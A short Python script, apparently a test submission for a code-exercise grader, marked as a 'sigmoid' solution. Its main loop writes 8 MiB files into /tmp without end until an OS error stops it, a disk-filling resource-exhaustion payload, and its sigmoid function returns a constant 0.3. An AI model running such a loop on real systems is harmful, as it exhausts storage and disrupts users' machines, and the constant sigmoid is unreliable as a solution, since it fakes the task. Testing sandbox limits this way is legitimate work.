# Writes files without end.
# %% solution="sigmoid"
import os

written = 0
try:
    while True:
        with open(f"/tmp/{written}", "wb") as file:
            file.write(b"x" * 2**23)
        written += 1
except OSError as error:
    print("stopped after", written, error)


def sigmoid(z):
    return 0.3
